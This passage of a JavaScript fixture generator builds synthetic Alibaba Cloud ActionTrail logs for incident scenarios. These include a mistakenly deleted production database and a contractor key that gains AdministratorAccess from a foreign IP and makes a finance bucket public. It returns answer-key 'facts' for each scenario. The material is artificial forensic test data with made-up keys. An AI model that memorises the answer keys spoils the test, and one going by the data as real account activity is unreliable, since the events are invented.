  ev.push({ label: 's1:sys-delete-disk', time: t('05:00:00'), record: ordered({
    eventId: uuid('s1:sys-delete-disk').toLowerCase(),
    eventAttributes: { SensitiveAction: 'true' },
    eventVersion: 1,
    sourceIpAddress: 'ecs.aliyuncs.com',
    userAgent: 'ecs.aliyuncs.com',
    eventRW: 'Write',
    eventType: 'ApiCall',
    referencedResources: { 'ACS::ECS::Instance': [LOADTEST], 'ACS::ECS::Disk': [LOADTEST_DISK] },
    userIdentity: SYSTEM_ECS.user,
    serviceName: 'Ecs',
    extend: 'INSTANCE',
    requestId: uuid('s1:sys-delete-disk:request'),
    eventTime: t('05:00:00'),
    isGlobal: false,
    acsRegion: HZ,
    eventName: 'DeleteDisk',
    recipientAccountId: ACCOUNT,
  }, ORDERS[0]) });

  // ── Delivery to OSS ──
  const files = deliverOss(ev, { duplicateLabel: 's1:evil-authorize-22', globalCopyTo: SH });

  const facts = {
    leakedKey: LEAKED, newKey: NEWKEY, vpc: VPC, vswProdH: VSW_H, sgProd: SG_PROD, web1: WEB1, web2: WEB2, worker1: WORKER1,
    loadtest: LOADTEST, loadtestDisk: LOADTEST_DISK, vswStaging: VSW_STAGING, worker1Disk: WORKER1_DISK, sgPayments: SG_PAY, attackerInstances: EVIL,
  };
  return { name: 'alicloud-leaked-key', events: ev, files, facts, keys: [LEAKED, NEWKEY] };
}

/**
 * OSS delivery, as ActionTrail writes it:
 *  - one folder per region (the event's acsRegion); global events (RAM/IMS/sign-in) are also
 *    copied, unchanged, into `globalCopyTo`'s folder;
 *  - one file per ~5-minute window of *delivery* time; each event is delivered 20 s to 9 min
 *    after it happened, so a file can hold events older than the previous file's;
 *  - inside a file the events are in no particular order (shuffled by label);
 *  - one event (`duplicateLabel`) is delivered a second time in the next file.
 *
 * File name: Actiontrail_<region>_<YYYYMMDDHHMMSS>_1002_<eventCount>_<size>_<md5>.gz
 *   <YYYYMMDDHHMMSS>  the window's end plus a few seconds (when the file was written), UTC
 *   1002              constant, as in the real file names (its meaning is not documented)
 *   <eventCount>      number of events in the array
 *   <size>            OUR CHOICE: the byte size of the .gz file itself
 *   <md5>             OUR CHOICE: md5 (hex) of the uncompressed JSON text
 * Real trails leave what <size> and <md5> cover undocumented (FORMAT.md §6); readers must not rely on them.
 */
function deliverOss(events, { duplicateLabel, globalCopyTo }) {
  const WINDOW = 5 * 60_000;
  const windows = new Map(); // `${region}|${windowIndex}` → [{label, record}]
  const put = (region, w, e) => {
    const k = `${region}|${w}`;
    if (!windows.has(k)) windows.set(k, []);
    windows.get(k).push(e);
  };
  for (const e of events) {
    const regions = [e.record.acsRegion];
    if (e.record.isGlobal === true && e.record.acsRegion !== globalCopyTo) regions.push(globalCopyTo);
    for (const region of regions) {
      const delay = 20_000 + num(`delay:${e.label}:${region}`, 8 * 60_000 + 40_000);
      const w = Math.floor((epoch(e.time) + delay) / WINDOW);
      put(region, w, e);
      if (e.label === duplicateLabel && region === e.record.acsRegion) put(region, w + 1, e);
    }
  }
  const files = [];
  for (const [k, list] of [...windows].sort()) {
    const [region, wText] = k.split('|');
    const w = Number(wText);
    const written = (w + 1) * WINDOW + (1 + num(`written:${k}`, 58)) * 1000;
    const inside = shuffled(list, `file:${k}`, (e) => e.label).map((e) => e.record);
    const text = JSON.stringify(inside);
    const gz = stableGzip(Buffer.from(text));
    const md5 = createHash('md5').update(text).digest('hex');
    const day = iso(written).slice(0, 10).replace(/-/g, '/');
    const name = `Actiontrail_${region}_${compact(written)}_1002_${inside.length}_${gz.length}_${md5}.gz`;
    files.push({ path: `trail/AliyunLogs/Actiontrail/${region}/${day}/${name}`, bytes: gz, records: inside.length });
  }
  return files;
}

/** gzip with a fixed header: mtime 0 (Node's default) and OS byte 3 (Unix) on every platform. */
function stableGzip(buf) {
  const gz = gzipSync(buf, { level: 9 });
  gz[9] = 3;
  return gz;
}

// ═════════════════════════════════════════════════════════════════════════════════════════
// Scenario 2: alicloud-rds-released
// ═════════════════════════════════════════════════════════════════════════════════════════

function rdsScenario() {
  const D1 = '2026-10-19';
  const D2 = '2026-10-20';
  const D3 = '2026-10-21';

  const TF_KEY = 'LTAI5tR2dK8sWm4Nq6Xc9Jv3';
  const TF = keyActor(ramUser('terraform-ci', '216789012345678901'), TF_KEY, '203.0.113.12',
    'Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-alicloud/1.235.0');
  const ALICE = consoleActor(ramUser('ops-alice', '287654321098765432'), '198.51.100.23', true);
  const BOB = consoleActor(ramUser('dev-bob', '265432109876543210'), '198.51.100.45', false);

  // Predate the trail.
  const VPC = id.vpc('s2:vpc-prod');
  const VSW_H = id.vsw('s2:vsw-prod-h');
  const SG_APP = id.sg('s2:sg-app');
  const RDS_STAGING = id.rds('s2:rds-orders-staging');
  const APP_STAGING = id.instance('s2:app-staging-1');
  // Created in the trail.
  const RDS = id.rds('s2:rds-orders-prod');
  const APP1 = id.instance('s2:app-prod-1');
  const APP2 = id.instance('s2:app-prod-2');
  const IMAGE = 'aliyun_3_x64_20G_alibase_20240819.vhd';

  const ev = [];
  const add = (s) => ev.push({ label: `s2:${s.label}`, time: s.time, record: event({ ...s, label: `s2:${s.label}` }) });
  const rdsRef = (...ids) => ({ 'ACS::RDS::DBInstance': ids });
  const inst = (...ids) => ({ 'ACS::ECS::Instance': ids });

  // ── Day 1: terraform-ci builds the orders stack ──
  add({ label: 'tf-rds-list', time: at(D1, '02:10:05'), name: 'DescribeDBInstances', service: 'Rds', actor: TF,
    params: { DBInstanceDescription: 'orders-prod', PageSize: 30 } });
  add({ label: 'tf-rds-create', time: at(D1, '02:10:06'), name: 'CreateDBInstance', service: 'Rds', actor: TF,
    params: {
      Engine: 'MySQL', EngineVersion: '8.0', DBInstanceClass: 'mysql.n2.medium.2c', DBInstanceStorage: 100,
      DBInstanceStorageType: 'cloud_essd', DBInstanceNetType: 'Intranet', InstanceNetworkType: 'VPC', Category: 'HighAvailability',
      SecurityIPList: '10.0.8.0/24', PayType: 'Postpaid', ZoneId: 'cn-hangzhou-h', ZoneIdSlave1: 'cn-hangzhou-h',
      VPCId: VPC, VSwitchId: VSW_H, DBInstanceDescription: 'orders-prod', DeletionProtection: false,
      'Tag.1.Key': 'app', 'Tag.1.Value': 'orders', ClientToken: `tf-${hex('s2:tf-rds-create:token', 20)}`,
    },
    response: { DBInstanceId: RDS, OrderId: String(227000000000000 + num('s2:order', 999999999)), ConnectionString: `${RDS}.mysql.rds.aliyuncs.com`, Port: '3306' },
    refs: rdsRef(RDS) });
  for (const [i, time] of ['02:11:06', '02:13:06', '02:15:07', '02:17:07'].entries()) {
    add({ label: `tf-rds-poll-${i}`, time: at(D1, time), name: 'DescribeDBInstanceAttribute', service: 'Rds', actor: TF,
      params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });
  }
  for (const [n, inst1, time] of [[1, APP1, '02:31:00'], [2, APP2, '02:31:01']]) {
    add({ label: `tf-run-app${n}`, time: at(D1, time), name: 'RunInstances', service: 'Ecs', actor: TF,
      params: {
        ImageId: IMAGE, InstanceType: 'ecs.c7.large', Amount: 1, ZoneId: 'cn-hangzhou-h',
        SecurityGroupId: SG_APP, VSwitchId: VSW_H, InstanceName: `app-prod-${n}`, HostName: `app-prod-${n}`, Description: 'orders API',
        InstanceChargeType: 'PostPaid', InternetMaxBandwidthOut: 0, 'SystemDisk.Category': 'cloud_essd', 'SystemDisk.Size': 40,
        DeletionProtection: false, 'Tag.1.Key': 'app', 'Tag.1.Value': 'orders', 'Tag.2.Key': 'env', 'Tag.2.Value': 'prod',
        ClientToken: `tf-${hex(`s2:tf-run-app${n}:token`, 20)}`,
      },
      response: { InstanceIdSets: { InstanceIdSet: [inst1] } },
      refs: { 'ACS::ECS::Instance': [inst1], 'ACS::ECS::Image': [IMAGE] } });
  }
  add({ label: 'tf-run-check', time: at(D1, '02:31:33'), name: 'DescribeInstances', service: 'Ecs', actor: TF,
    params: { InstanceIds: JSON.stringify([APP1, APP2]) } });

  // ── Log Audit collects every 6 hours; terraform runs a drift check every morning ──
  for (const [day, hours] of [[D1, [6, 12, 18]], [D2, [0, 6, 12, 18]], [D3, [0, 6]]]) {
    for (const h of hours) {
      add({ label: `sls-rds-${day}-${h}`, time: at(day, hms(h, 5, 11)), name: 'DescribeDBInstances', service: 'Rds', actor: SLS_AUDIT,
        params: { PageSize: 30, PageNumber: 1 } });
      add({ label: `sls-ecs-${day}-${h}`, time: at(day, hms(h, 5, 12)), name: 'DescribeInstances', service: 'Ecs', actor: SLS_AUDIT,
        params: { PageSize: 100, PageNumber: 1 } });
    }
  }
  for (const day of [D2, D3]) {
    add({ label: `tf-drift-rds-${day}`, time: at(day, '02:00:41'), name: 'DescribeDBInstanceAttribute', service: 'Rds', actor: TF,
      params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });
    add({ label: `tf-drift-ips-${day}`, time: at(day, '02:00:41'), name: 'DescribeDBInstanceIPArrayList', service: 'Rds', actor: TF,
      params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });
    add({ label: `tf-drift-ecs-${day}`, time: at(day, '02:00:42'), name: 'DescribeInstances', service: 'Ecs', actor: TF,
      params: { InstanceIds: JSON.stringify([APP1, APP2]) } });
  }

  // ── Day 2: ops-alice opens the database to the bastion host ──
  ev.push({ label: 's2:alice-signin-d2', time: at(D2, '03:14:40'), record: signin('s2:alice-signin-d2', at(D2, '03:14:40'), ALICE, CHROME) });
  add({ label: 'alice-rds-list-d2', time: at(D2, '03:15:02'), name: 'DescribeDBInstances', service: 'Rds', actor: ALICE, params: { PageSize: 30 } });
  add({ label: 'alice-ips-d2', time: at(D2, '03:15:20'), name: 'DescribeDBInstanceIPArrayList', service: 'Rds', actor: ALICE,
    params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });
  add({ label: 'alice-append-ip', time: at(D2, '03:16:02'), name: 'ModifySecurityIps', service: 'Rds', actor: ALICE,
    params: { DBInstanceId: RDS, SecurityIps: '198.51.100.14', DBInstanceIPArrayName: 'default', ModifyMode: 'Append', WhitelistNetworkType: 'MIX' },
    response: { TaskId: num('s2:task', 90000000) + 10000000 }, refs: rdsRef(RDS) });
  add({ label: 'alice-ips-d2-after', time: at(D2, '03:16:03'), name: 'DescribeDBInstanceIPArrayList', service: 'Rds', actor: ALICE,
    params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });

  // ── Day 3: dev-bob cleans up "staging" ──
  ev.push({ label: 's2:bob-signin', time: at(D3, '05:58:30'), record: signin('s2:bob-signin', at(D3, '05:58:30'), BOB, SAFARI) });
  add({ label: 'bob-rds-list', time: at(D3, '06:01:10'), name: 'DescribeDBInstances', service: 'Rds', actor: BOB, params: { PageSize: 30 } });
  add({ label: 'bob-rds-staging', time: at(D3, '06:02:47'), name: 'DescribeDBInstanceAttribute', service: 'Rds', actor: BOB,
    params: { DBInstanceId: RDS_STAGING }, refs: rdsRef(RDS_STAGING) });
  add({ label: 'bob-rds-prod', time: at(D3, '06:03:15'), name: 'DescribeDBInstanceAttribute', service: 'Rds', actor: BOB,
    params: { DBInstanceId: RDS }, refs: rdsRef(RDS) });
  add({ label: 'bob-delete-rds', time: at(D3, '06:07:41'), name: 'DeleteDBInstance', service: 'Rds', actor: BOB,
    params: { DBInstanceId: RDS, ReleasedKeepPolicy: 'Lastest' }, response: {}, refs: rdsRef(RDS), sensitive: true });
  add({ label: 'bob-rds-list-2', time: at(D3, '06:07:41'), name: 'DescribeDBInstances', service: 'Rds', actor: BOB, params: { PageSize: 30 } });
  add({ label: 'bob-ecs-list', time: at(D3, '06:09:30'), name: 'DescribeInstances', service: 'Ecs', actor: BOB,
    params: { PageSize: 20, PageNumber: 1, 'Tag.1.Key': 'app', 'Tag.1.Value': 'orders' } });
  add({ label: 'bob-stop-app1', time: at(D3, '06:10:02'), name: 'StopInstance', service: 'Ecs', actor: BOB,
    params: { InstanceId: APP1, ForceStop: false, StoppedMode: 'StopCharging' }, response: {}, refs: inst(APP1) });
  add({ label: 'bob-ecs-status', time: at(D3, '06:10:03'), name: 'DescribeInstanceStatus', service: 'Ecs', actor: BOB, params: { PageSize: 50 } });

  // ── ops-alice is paged, looks around, and annotates the surviving instance ──
  ev.push({ label: 's2:alice-signin-d3', time: at(D3, '06:24:05'), record: signin('s2:alice-signin-d3', at(D3, '06:24:05'), ALICE, CHROME) });
  add({ label: 'alice-rds-list-d3', time: at(D3, '06:25:12'), name: 'DescribeDBInstances', service: 'Rds', actor: ALICE, params: { PageSize: 30 } });
  add({ label: 'alice-rds-csv', time: at(D3, '06:26:40'), name: 'DescribeDBInstancesAsCsv', service: 'Rds', actor: ALICE, params: {} });
  add({ label: 'alice-backups', time: at(D3, '06:27:03'), name: 'DescribeBackups', service: 'Rds', actor: ALICE,
    params: { DBInstanceId: RDS, StartTime: '2026-10-14T00:00Z', EndTime: '2026-10-21T06:27Z' }, refs: rdsRef(RDS) });
  add({ label: 'alice-ecs-list-d3', time: at(D3, '06:31:55'), name: 'DescribeInstances', service: 'Ecs', actor: ALICE, params: { PageSize: 20, PageNumber: 1 } });
  add({ label: 'alice-note-app2', time: at(D3, '06:52:30'), name: 'ModifyInstanceAttribute', service: 'Ecs', actor: ALICE,
    params: { InstanceId: APP2, Description: 'orders API - INC-2210: do not stop' }, response: {}, refs: inst(APP2) });

  // ── Delivery: a JSON-array export (console/LookupEvents style, newest first) up to 06:30 on
  //    day 3, and an SLS JSONL export from 00:00 on day 3. Both hold 00:00-06:30 of day 3. ──
  const byTime = [...ev].sort((x, y) => epoch(x.time) - epoch(y.time) || (x.label < y.label ? -1 : 1));
  const exportCut = epoch(at(D3, '06:30:00'));
  const slsStart = epoch(at(D3, '00:00:00'));
  const exported = byTime.filter((e) => epoch(e.time) < exportCut).reverse();
  const sls = byTime.filter((e) => epoch(e.time) >= slsStart);
  const files = [
    { path: 'trail/actiontrail-export.json', bytes: Buffer.from(JSON.stringify(exported.map((e) => e.record), null, 2) + '\n'), records: exported.length },
    {
      path: 'trail/sls-export.jsonl',
      bytes: Buffer.from(
        sls
          .map((e) => JSON.stringify({ __topic__: 'actiontrail_audit_event', __time__: epoch(e.time) / 1000, __source__: 'actiontrail', event: JSON.stringify(e.record) }))
          .join('\n') + '\n',
      ),
      records: sls.length,
    },
  ];
  const facts = { terraformKey: TF_KEY, rds: RDS, rdsStaging: RDS_STAGING, app1: APP1, app2: APP2, appStaging: APP_STAGING, vpc: VPC, vsw: VSW_H, sgApp: SG_APP };
  return { name: 'alicloud-rds-released', events: ev, files, facts, keys: [TF_KEY] };
}

// ═════════════════════════════════════════════════════════════════════════════════════════
// Scenario 3: alicloud-ram-oss-exposure
// ═════════════════════════════════════════════════════════════════════════════════════════

function ramOssScenario() {
  const D1 = '2026-11-03';
  const D2 = '2026-11-04';
  const D3 = '2026-11-05';

  const TF_KEY = 'LTAI5tJ8wN3qRz6Kb2Ym7Dx4'; // terraform-ci, CI runner
  const EVE_KEY = 'LTAI5tPc4Hv9Ue2Ja7Wn5Qs8'; // created by ops-alice for the contractor on day 1
  const ALICE = consoleActor(ramUser('ops-alice', '287654321098765432'), '198.51.100.23', true);
  const CAROL = consoleActor(ramUser('dev-carol', '243210987654321098'), '198.51.100.45', true);
  const DAN = consoleActor(ramUser('helpdesk-dan', '221098765432109876'), '198.51.100.31', false);
  const DAN_FOREIGN = consoleActor(DAN.user, '192.0.2.140', false);
  const TF = keyActor(ramUser('terraform-ci', '216789012345678901'), TF_KEY, '203.0.113.12',
    'Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-alicloud/1.235.0');
  const eveUser = ramUser('contractor-eve', '254321098765432109');
  const EVE = keyActor(eveUser, EVE_KEY, '203.0.113.77', 'aliyun-sdk-go/v3.0.2 (Linux/6.8.0/amd64;go1.22.4)/ossutil/1.7.19');
  const EVE_FOREIGN = keyActor(eveUser, EVE_KEY, '192.0.2.141', 'aliyun-cli/3.0.210');
  const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0';

  const FINANCE = 'acme-finance-reports'; // created in the trail, private
  const WEB = 'acme-web-assets'; // predates the trail
  const SCRATCH = 'acme-ml-scratch'; // created after the incident
  const upn = (name) => `${name}@acme.onaliyun.com`;

  const ev = [];
  const add = (s) => ev.push({ label: `s3:${s.label}`, time: s.time, record: event({ ...s, label: `s3:${s.label}` }) });
  const oss = (s) => ev.push({ label: `s3:${s.label}`, time: s.time, record: ossEvent({ ...s, label: `s3:${s.label}` }) });
  const sign = (label, time, actor, browser) => ev.push({ label: `s3:${label}`, time, record: signin(`s3:${label}`, time, actor, browser) });
  const userRef = (...names) => ({ 'ACS::RAM::User': names });
  const attachRefs = (user, policy) => ({ 'ACS::RAM::User': [user], 'ACS::RAM::Policy': [policy] });

  // ── Log Audit (SLS service role) inventories buckets and RAM users every 6 hours ──
  for (const [day, hours] of [[D1, [6, 12, 18]], [D2, [0, 6, 12, 18]], [D3, [0]]]) {
    for (const h of hours) {
      oss({ label: `sls-buckets-${day}-${h}`, time: at(day, hms(h, 5, 21)), name: 'ListBuckets', actor: SLS_AUDIT, params: { 'max-keys': 1000 } });
      add({ label: `sls-users-${day}-${h}`, time: at(day, hms(h, 5, 24)), name: 'ListUsers', service: 'Ram', actor: SLS_AUDIT, params: { MaxItems: 100 },
        region: SH });
    }
  }

  // ── Day 1: terraform-ci creates the finance bucket, private ──
  oss({ label: 'tf-info-missing', time: at(D1, '01:58:10'), name: 'GetBucketInfo', bucket: FINANCE, actor: TF, params: { bucketInfo: '' },
    error: { code: 'NoSuchBucket', message: 'The specified bucket does not exist.' } });
  oss({ label: 'tf-put-bucket', time: at(D1, '01:58:11'), name: 'PutBucket', bucket: FINANCE, actor: TF,
    params: { 'x-oss-acl': 'private', 'CreateBucketConfiguration.StorageClass': 'Standard', 'CreateBucketConfiguration.DataRedundancyType': 'ZRS' } });
  oss({ label: 'tf-info', time: at(D1, '01:58:12'), name: 'GetBucketInfo', bucket: FINANCE, actor: TF, params: { bucketInfo: '' }, refsForm: 'host' });
  oss({ label: 'tf-acl', time: at(D1, '01:58:12'), name: 'GetBucketAcl', bucket: FINANCE, actor: TF, params: { acl: '' }, refsForm: 'flat' });

  // ── Day 1: ops-alice onboards the auditor from the contracting firm, read-only on OSS ──
  sign('alice-signin-d1', at(D1, '02:30:04'), ALICE, CHROME);
  add({ label: 'alice-users-d1', time: at(D1, '02:30:40'), name: 'ListUsers', service: 'Ram', actor: ALICE, params: { MaxItems: 100 }, region: SH });
  add({ label: 'alice-create-eve', time: at(D1, '02:31:40'), name: 'CreateUser', service: 'Ims', actor: ALICE, region: SH,
    params: { UserPrincipalName: upn('contractor-eve'), DisplayName: 'Eve (audit contractor)', Comments: 'Q4 audit, access until 2026-12-31' },
    response: { User: { UserPrincipalName: upn('contractor-eve'), DisplayName: 'Eve (audit contractor)', UserId: eveUser.principalId,
      Comments: 'Q4 audit, access until 2026-12-31', CreateDate: at(D1, '02:31:40'), UpdateDate: at(D1, '02:31:40'), LastLoginDate: '', Email: '', MobilePhone: '' } },
    refs: userRef(upn('contractor-eve')) });
  add({ label: 'alice-attach-ossro', time: at(D1, '02:32:15'), name: 'AttachPolicyToUser', service: 'Ram', actor: ALICE, region: SH,
    params: { PolicyType: 'System', PolicyName: 'AliyunOSSReadOnlyAccess', UserName: 'contractor-eve' }, response: {},
    refs: attachRefs('contractor-eve', 'AliyunOSSReadOnlyAccess') });
  add({ label: 'alice-create-key-eve', time: at(D1, '02:33:02'), name: 'CreateAccessKey', service: 'Ims', actor: ALICE, region: SH,
    params: { UserPrincipalName: upn('contractor-eve') },
    response: { AccessKey: { AccessKeyId: EVE_KEY, AccessKeySecret: '****', Status: 'Active', CreateDate: at(D1, '02:33:02') } },
    refs: userRef(upn('contractor-eve')), sensitive: true });
  add({ label: 'alice-policies-eve', time: at(D1, '02:33:30'), name: 'ListPoliciesForUser', service: 'Ram', actor: ALICE, region: SH,
    params: { UserName: 'contractor-eve' } });

  // ── Day 2: the contractor works, from her firm's network ──
  oss({ label: 'eve-list-d2', time: at(D2, '01:10:05'), name: 'ListBuckets', actor: EVE, params: { 'max-keys': 100 } });
  oss({ label: 'eve-info-d2', time: at(D2, '01:10:07'), name: 'GetBucketInfo', bucket: FINANCE, actor: EVE, params: { bucketInfo: '' } });
  oss({ label: 'eve-acl-d2', time: at(D2, '01:10:09'), name: 'GetBucketAcl', bucket: FINANCE, actor: EVE, params: { acl: '' }, refsForm: 'host' });
  oss({ label: 'eve-info-d2-2', time: at(D2, '07:42:33'), name: 'GetBucketInfo', bucket: FINANCE, actor: EVE, params: { bucketInfo: '' } });

  // ── Day 2: helpdesk-dan onboards an intern (legitimate, from the office) ──
  sign('dan-signin-d2', at(D2, '03:15:02'), DAN, CHROME);
  add({ label: 'dan-create-gina', time: at(D2, '03:16:40'), name: 'CreateUser', service: 'Ims', actor: DAN,
    params: { UserPrincipalName: upn('intern-gina'), DisplayName: 'Gina (intern)' },
    response: { User: { UserPrincipalName: upn('intern-gina'), DisplayName: 'Gina (intern)', UserId: '276543210987654321',
      Comments: '', CreateDate: at(D2, '03:16:40'), UpdateDate: at(D2, '03:16:40'), LastLoginDate: '', Email: '', MobilePhone: '' } },
    refs: userRef(upn('intern-gina')) });
  add({ label: 'dan-attach-gina', time: at(D2, '03:17:22'), name: 'AttachPolicyToUser', service: 'Ram', actor: DAN,
    params: { PolicyType: 'System', PolicyName: 'AliyunECSReadOnlyAccess', UserName: 'intern-gina' }, response: {},
    refs: attachRefs('intern-gina', 'AliyunECSReadOnlyAccess') });

  // ── Day 2: dev-carol publishes the static-site bucket (legitimately public) ──
  sign('carol-signin-d2', at(D2, '06:20:11'), CAROL, SAFARI);
  oss({ label: 'carol-list-d2', time: at(D2, '06:20:40'), name: 'ListBuckets', actor: CAROL, params: {} });
  oss({ label: 'carol-web-public', time: at(D2, '06:22:10'), name: 'PutBucketAcl', bucket: WEB, actor: CAROL,
    params: { 'x-oss-acl': 'public-read', acl: '' }, refsForm: 'flat', order: 1 });
  oss({ label: 'carol-web-acl', time: at(D2, '06:22:11'), name: 'GetBucketAcl', bucket: WEB, actor: CAROL, params: { acl: '' } });

  // ── Night of day 2: the contractor's key, from a foreign address, tries to open the bucket ──
  oss({ label: 'evil-acl-denied', time: at(D2, '22:35:12'), name: 'PutBucketAcl', bucket: FINANCE, actor: EVE_FOREIGN,
    params: { 'x-oss-acl': 'public-read', acl: '' },
    error: { code: 'AccessDenied', message: 'You have no right to access this object because of bucket acl.' } });
  // … someone signs in as helpdesk-dan from the same foreign network and makes the contractor an admin …
  sign('evil-dan-signin', at(D2, '22:38:47'), DAN_FOREIGN, FIREFOX);
  add({ label: 'evil-users', time: at(D2, '22:39:30'), name: 'ListUsers', service: 'Ram', actor: DAN_FOREIGN, params: { MaxItems: 100 } });
  add({ label: 'evil-getuser', time: at(D2, '22:39:58'), name: 'GetUser', service: 'Ram', actor: DAN_FOREIGN, params: { UserName: 'contractor-eve' },
    refs: userRef('contractor-eve') });
  add({ label: 'evil-policies-1', time: at(D2, '22:40:20'), name: 'ListPoliciesForUser', service: 'Ram', actor: DAN_FOREIGN, params: { UserName: 'contractor-eve' } });
  add({ label: 'evil-attach-custom', time: at(D2, '22:40:51'), name: 'AttachPolicyToUser', service: 'Ram', actor: DAN_FOREIGN,
    params: { PolicyType: 'Custom', PolicyName: 'AdministratorAccess', UserName: 'contractor-eve' },
    error: { code: 'EntityNotExist.Policy', message: 'The policy does not exist.' },
    refs: attachRefs('contractor-eve', 'AdministratorAccess'), sensitive: true });
  add({ label: 'evil-attach-admin', time: at(D2, '22:41:07'), name: 'AttachPolicyToUser', service: 'Ram', actor: DAN_FOREIGN,
    params: { PolicyType: 'System', PolicyName: 'AdministratorAccess', UserName: 'contractor-eve' }, response: {},
    refs: attachRefs('contractor-eve', 'AdministratorAccess'), sensitive: true });
  add({ label: 'evil-policies-2', time: at(D2, '22:41:30'), name: 'ListPoliciesForUser', service: 'Ram', actor: DAN_FOREIGN, params: { UserName: 'contractor-eve' } });
  // … and the key, now an administrator's, makes the finance bucket public.
  oss({ label: 'evil-acl-public', time: at(D2, '22:44:30'), name: 'PutBucketAcl', bucket: FINANCE, actor: EVE_FOREIGN,
    params: { 'x-oss-acl': 'public-read', acl: '' }, sensitive: true });
  oss({ label: 'evil-acl-check', time: at(D2, '22:44:52'), name: 'GetBucketAcl', bucket: FINANCE, actor: EVE_FOREIGN, params: { acl: '' } });
  oss({ label: 'evil-info', time: at(D2, '22:46:05'), name: 'GetBucketInfo', bucket: FINANCE, actor: EVE_FOREIGN, params: { bucketInfo: '' } });

  // ── Day 3: dev-carol creates a scratch bucket (legitimate; logged like oss-PutBucket.json) ──
  sign('carol-signin-d3', at(D3, '01:35:26'), CAROL, SAFARI);
  oss({ label: 'carol-put-scratch', time: at(D3, '01:41:18'), name: 'PutBucket', bucket: SCRATCH, actor: CAROL, noParams: true, internalIp: true, order: 0 });
  oss({ label: 'carol-list-d3', time: at(D3, '01:41:25'), name: 'ListBuckets', actor: CAROL, params: {} });

  // ── Day 3: ops-alice gets the "bucket is public" alert and starts looking ──
  sign('alice-signin-d3', at(D3, '02:48:19'), ALICE, CHROME);
  oss({ label: 'alice-acl-d3', time: at(D3, '02:49:02'), name: 'GetBucketAcl', bucket: FINANCE, actor: ALICE, params: {} });
  add({ label: 'alice-policies-d3', time: at(D3, '02:50:37'), name: 'ListPoliciesForUser', service: 'Ram', actor: ALICE, region: SH,
    params: { UserName: 'contractor-eve' } });

  // ── Delivery: two pages pulled from the Log Service logstore `actiontrail_audit-trail` with
  //    GetLogs, as JSON arrays. The second query started a minute before the first ended, so the
  //    events of 22:44:00-22:45:00 (the bucket going public and its check) are in both files. ──
  const byTime = [...ev].sort((x, y) => epoch(x.time) - epoch(y.time) || (x.label < y.label ? -1 : 1));
  const cut1 = epoch(at(D2, '22:45:00'));
  const start2 = epoch(at(D2, '22:44:00'));
  const page1 = byTime.filter((e) => epoch(e.time) < cut1);
  const page2 = byTime.filter((e) => epoch(e.time) >= start2);
  const slsLog = (e) => {
    const t = epoch(e.time) / 1000;
    return {
      __source__: 'actiontrail',
      '__tag__:__receive_time__': String(t + 2 + num(`recv:${e.label}`, 40)),
      __time__: t,
      __topic__: 'actiontrail_audit_event',
      event: JSON.stringify(e.record),
    };
  };
  const page = (list) => Buffer.from(`[\n${list.map((e) => JSON.stringify(slsLog(e))).join(',\n')}\n]\n`);
  const files = [
    { path: 'trail/sls-getlogs-20261103T0000Z-20261104T2245Z.json', bytes: page(page1), records: page1.length },
    { path: 'trail/sls-getlogs-20261104T2244Z-20261105T0300Z.json', bytes: page(page2), records: page2.length },
  ];
  const facts = {
    eveKey: EVE_KEY, terraformKey: TF_KEY, financeBucket: FINANCE, webBucket: WEB, scratchBucket: SCRATCH,
    adminAttachment: 'user:AdministratorAccess:System:contractor-eve', readOnlyAttachment: 'user:AliyunOSSReadOnlyAccess:System:contractor-eve',
    foreignIps: ['192.0.2.140', '192.0.2.141'], at: at(D2, '22:30:00'),
  };
  return { name: 'alicloud-ram-oss-exposure', events: ev, files, facts, keys: [EVE_KEY, TF_KEY] };
}

// ─── counts, writing, checking ───────────────────────────────────────────────────────────

/** Counts the way trailback's reader does: eventRW, else the verb (a sign-in has neither: a write). */
const isRead = (r) => (r.eventRW ? r.eventRW === 'Read' : /^(Describe|Get|List|Lookup|Query|Check)/.test(r.eventName));
const counts = (scenario) => scenarioCounts(scenario, (r) => !isRead(r));

writeOrCheck(EXAMPLES, [leakedKeyScenario(), rdsScenario(), ramOssScenario()], counts);
